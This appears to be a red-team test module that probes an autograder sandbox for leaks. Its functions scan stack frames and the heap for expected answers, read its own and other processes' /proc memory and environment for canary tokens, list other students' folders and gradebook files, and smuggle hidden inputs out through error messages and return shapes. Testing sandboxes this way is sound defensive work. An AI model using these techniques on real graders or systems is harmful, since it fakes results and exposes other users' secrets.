"""Look for what the judge knows in the process that holds the answer."""

from typing import Any

from autograder.redteam.attack import attack


@attack("PrairieLearn: frames of the grader")
def frames_searched(target: dict, report: Any, x: Any) -> Any:
    """Walks up the stack and takes the expected value from the caller's variables."""
    import sys

    above: Any = sys._getframe()
    while above is not None:
        for name in ("expected", "want", "truth", "oracle", "reference", "solution", "seed"):
            # A socket of the name is no secret; a function or a tensor would be.
            if callable(above.f_locals.get(name)) or type(above.f_locals.get(name)) is torch.Tensor:
                report(f"{name} = {above.f_locals[name]!r} in {above.f_code.co_filename}")
        found = [value for value in above.f_locals.values() if type(value) is torch.Tensor]
        for value in found:
            if value.shape == x.shape and torch.allclose(value.double(), right(x)):
                report(f"the expected value in a frame of {above.f_code.co_filename}")
                return value
        above = above.f_back
    return None


@attack("pygpubench pull request 7", quick=True)
def heap_searched(target: dict, report: Any, x: Any) -> Any:
    """Goes through all live objects for a tensor that equals the expected result."""
    import gc

    wanted = right(x)
    for value in gc.get_objects():
        if type(value) is torch.Tensor and value.shape == x.shape and value is not wanted:
            if x.shape[-1] > 1 and torch.allclose(value.double(), wanted):
                report("the expected value is alive in this process")
                return value
    return None


@attack("own")
def names_searched(target: dict, report: Any) -> None:
    """Goes through every module and function for the reference, the case generator or the checks."""
    import gc
    import types

    wanted = ("refimpl", "reference", "checks_of_", "reference_of_", "mistakes_of_")
    for value in gc.get_objects():
        if isinstance(value, types.ModuleType) and str(value.__name__).startswith(wanted):
            report(f"the module {value.__name__}")
        if isinstance(value, types.FunctionType) and value.__name__ in (
            "cases",
            "grow",
            "never_zero",
            "over_everything",
        ):
            report(f"the function {value.__name__} of {value.__code__.co_filename}")


@attack("pygpubench issue 23", quick=True)
def own_memory_read(target: dict, report: Any) -> None:
    """Reads its own memory, page by page, for what a fork may have left of the judge or of a neighbour."""
    import re

    secret = re.compile(rb"(?:CANARY|NEIGHBOUR)-[0-9a-f]{32}")
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" not in line or "[v" in line or end - begin > 1 << 28:
                continue
            memory.seek(begin)
            try:
                found = secret.search(memory.read(end - begin))
            except (OSError, ValueError):
                continue
            if found:
                report(f"in memory: {found[0].decode()}")
                return


@attack("jupyter kernels inherit the environment", quick=True)
def environment_read(target: dict, report: Any) -> None:
    """Reads its own environment for tokens of the account that grades."""
    import os

    own = open("/proc/self/environ", errors="replace").read()
    for text in (*os.environ.values(), *own.split("\0")):
        if "CANARY-" in text:
            report(f"in the environment: {text}")


@attack("own", plain=False, quick=True)
def descriptors_listed(target: dict, report: Any) -> None:
    """Looks for open files and sockets that were left from the processes above."""
    import os

    kinds = []
    for descriptor in range(3, 1024):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        kinds.append(f"{descriptor} {os.readlink(f'/proc/self/fd/{descriptor}').partition(':')[0]}")
    if len(kinds) != 1 or not kinds[0].endswith("socket"):
        report(f"descriptors beside the one socket to the judge: {kinds}")


@attack("own", quick=True)
def processes_read(target: dict, report: Any) -> None:
    """Reads environment, memory map, command line and descriptors of the judge, the zygote and a neighbour."""
    import os

    for pid in target["judge_pids"] + target["neighbour_pids"]:
        for name in ("environ", "maps", "mem"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    content = file.read(1 << 20) if name == "environ" else b""
            except OSError:
                continue
            begin = content.find(b"CANARY-")  # of other people's settings, it is enough that they can be read
            report(f"/proc/{pid}/{name} {content[begin : begin + 39].decode() if begin >= 0 else 'opened'}")
        try:
            report(f"/proc/{pid}/fd: {len(os.listdir(f'/proc/{pid}/fd'))}")
        except OSError:
            pass


@attack("own")
def neighbours_folders_listed(target: dict, report: Any) -> None:
    """Lists the folders beside its own for the work of other students."""
    import os

    own = os.getcwd()
    for folder in {os.path.dirname(own), target["temp"], target["course"], target["home"]}:
        try:
            others = [name for name in os.listdir(folder) if name not in own]
        except OSError:
            continue
        inside = [name for name in others if "session-" in name or name in ("submitted", "gradebook.db", "source")]
        if inside:
            report(f"{folder}: {inside[:5]}")


# --- leaks through the feedback: what the student gets to read --------------------------------------------


@attack("PrairieLearn pull request 5184", plain=False, quick=True)
def input_in_a_message(target: dict, report: Any, x: Any) -> None:
    """Raises an error whose message holds the hidden input."""
    raise ValueError(f"{x.flatten().tolist()}")


@attack("own", plain=False)
def input_in_a_class_name(target: dict, report: Any, x: Any) -> None:
    """Raises an error whose class is called like the hidden input."""
    raise type(f"Input{x.flatten().tolist()}", (Exception,), {})("look at my name")


@attack("own", plain=False)
def input_in_keys(target: dict, report: Any, x: Any) -> Any:
    """Returns a dict whose keys are the hidden input."""
    return {f"{value:.12g}": 1 for value in x.flatten().tolist()}


@attack("own", plain=False, quick=True)
def input_in_a_shape(target: dict, report: Any, x: Any) -> Any:
    """Returns an empty tensor whose shape spells the digits of a hidden number."""
    digits = int(f"{abs(float(x.flatten()[0])):.11e}".replace(".", "").partition("e")[0][:9])
    return torch.empty(0, digits)


@attack("own", plain=False)
def input_in_a_length(target: dict, report: Any, x: Any) -> Any:
    """Returns a list as long as the first six digits of a hidden number say."""
    return [0] * int(f"{abs(float(x.flatten()[0])):.11e}".replace(".", "")[:6])


@attack("own", plain=False)
def input_in_a_type(target: dict, report: Any, x: Any) -> Any:
    """Returns an object whose type is called like the hidden input."""
    return type(f"{x.flatten()[0]:.12g}", (), {})()


@attack("own", plain=False)
def input_in_a_number(target: dict, report: Any, x: Any) -> Any:
    """Returns a hidden number as a string, as an int and as a list, hoping that a message repeats it."""
    first = float(x.flatten()[0])
    return [f"{first:.12g}", int(abs(first) * 10**12), (first,)][int(abs(first) * 1000) % 3]
